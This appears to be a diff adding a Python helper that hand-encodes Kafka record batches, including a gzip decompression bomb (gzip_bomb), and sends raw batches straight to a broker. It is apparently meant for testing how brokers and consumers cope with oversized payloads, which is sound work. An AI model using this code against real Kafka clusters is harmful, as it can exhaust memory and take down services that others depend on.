@@ -1,0 +1,85 @@
+"""Record batches that are small on the wire and huge once unpacked, and a way to send them as they are.
+
+Format: "Record Batch" in Kafka's documentation of its message format (kafka.apache.org/documentation/#messageformat).
+"""
+
+import struct
+import time
+import zlib
+from collections.abc import Iterator, Sequence
+from contextlib import closing
+from typing import Any
+
+import crc32c
+from kafka.admin import KafkaAdminClient
+from kafka.protocol.producer import ProduceRequest
+
+GZIP = 1
+BLOCK = bytes(1 << 20)
+
+
+def varint(number: int) -> bytes:
+    """A signed integer as Kafka's records have it: zigzag, seven bits a byte."""
+    number = (number << 1) ^ (number >> 63)
+    out = bytearray()
+    while number > 0x7F:
+        out.append(number & 0x7F | 0x80)
+        number >>= 7
+    return bytes([*out, number])
+
+
+def gzip_bomb(value_bytes: int, headers: int = 0) -> bytes:
+    """A batch of one record with a value of zeros and headers of the name `a` without a value, made piece by piece."""
+    head = bytes(1) + varint(0) + varint(0) + varint(-1) + varint(value_bytes)
+    header = varint(1) + b"a" + varint(-1)
+    tail = varint(headers)
+    size = len(head) + value_bytes + len(tail) + headers * len(header)
+    packer = zlib.compressobj(9, wbits=31)
+
+    def pieces() -> Iterator[bytes]:
+        yield varint(size) + head
+        for start in range(0, value_bytes, len(BLOCK)):
+            yield BLOCK[: value_bytes - start]
+        yield tail
+        for start in range(0, headers, 100_000):
+            yield header * min(100_000, headers - start)
+
+    return batch_of(b"".join(packer.compress(piece) for piece in pieces()) + packer.flush(), GZIP)
+
+
+def record(
+    offset: int, key: bytes | None, value: bytes | None, headers: Sequence[tuple[str, bytes | None]] = ()
+) -> bytes:
+    """A record as a batch holds it."""
+    body = bytes(1) + varint(0) + varint(offset) + _blob(key) + _blob(value) + varint(len(headers))
+    body += b"".join(_blob(name.encode()) + _blob(content) for name, content in headers)
+    return varint(len(body)) + body
+
+
+def _blob(content: bytes | None) -> bytes:
+    return varint(-1) if content is None else varint(len(content)) + content
+
+
+def batch_of(records: bytes, codec: int = 0, count: int = 1) -> bytes:
+    """A batch of records that are packed already."""
+    now_ms = int(time.time() * 1000)  # Kafka deletes what is dated in the past
+    # attributes, last offset delta, first and last timestamp, no producer, number of records
+    body = struct.pack(">hiqqqhii", codec, count - 1, now_ms, now_ms, -1, -1, -1, count) + records
+    return struct.pack(">qiibI", 0, len(body) + 9, -1, 2, crc32c.crc32c(body)) + body
+
+
+def produce(servers: str, topic: str, partition: int, batch: bytes) -> tuple[int, int]:
+    """Send a batch as it is; returns the broker's error code, 0 for none, and the offset."""
+    topics = ProduceRequest.TopicProduceData
+    part = topics.PartitionProduceData(index=partition, records=batch)
+    request = ProduceRequest(
+        transactional_id=None, acks=-1, timeout_ms=30_000,
+        topic_data=[topics(name=topic, partition_data=[part])], min_version=3, max_version=9,
+    )  # fmt: skip
+    with closing(KafkaAdminClient(bootstrap_servers=servers, request_timeout_ms=60_000)) as admin:
+        admin.describe_topics([topic])
+        manager: Any = admin._manager
+        (node,) = [one["broker_id"] for one in admin.describe_cluster()["brokers"]]
+        response = manager.run(manager.send, request, node)
+        (answer,) = response.responses[0].partition_responses
+        return int(answer.error_code), int(answer.base_offset)
